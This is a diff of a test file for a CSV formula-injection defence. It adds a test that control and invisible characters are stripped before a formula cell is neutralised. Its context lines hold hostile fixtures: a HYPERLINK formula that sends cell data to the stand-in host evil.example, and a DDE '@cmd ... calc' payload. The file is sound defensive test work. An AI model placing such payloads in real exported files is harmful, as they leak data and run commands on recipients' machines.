@@ -76,6 +76,13 @@ describe('CSV cells', () => {
     }
     for (const s of ['plain', 'a=b', 'sales-orders-voice', '3-2', '']) expect(neutraliseFormula(s)).toBe(s)
   })
+  it('control and invisible characters are removed before the formula check', () => {
+    expect(neutraliseFormula('\u0000=1+1')).toBe("'=1+1")
+    expect(neutraliseFormula('\u200B\u202E+cmd')).toBe("'+cmd")
+    expect(neutraliseFormula('\u0085@SUM(A1)')).toBe("'@SUM(A1)")
+    expect(neutraliseFormula('a\u0007b')).toBe('ab')
+    expect(neutraliseFormula('two\nlines\tok')).toBe('two\nlines\tok')
+  })
   it('a hostile cell survives a spreadsheet parse as inert text', () => {
     const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
     const text = toCsv([['queue', 'agent'], [hostile, '@cmd|\' /C calc\'!A0']], fr)
